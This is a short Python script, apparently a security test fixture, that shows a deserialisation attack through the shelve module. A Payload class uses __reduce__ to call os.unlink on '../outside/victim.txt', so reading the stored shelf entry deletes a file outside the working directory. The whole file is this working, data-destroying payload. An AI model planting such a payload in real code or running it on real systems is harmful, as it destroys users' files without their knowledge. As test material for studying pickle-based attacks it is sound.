# A shelf in the workspace holds the payload.
# damage: deleted
import os
import shelve


class Payload:
    def __reduce__(self):
        return os.unlink, ("../outside/victim.txt",)


with shelve.open("shelf", "n") as shelf:
    shelf["a"] = Payload()
with shelve.open("shelf") as shelf:
    shelf["a"]
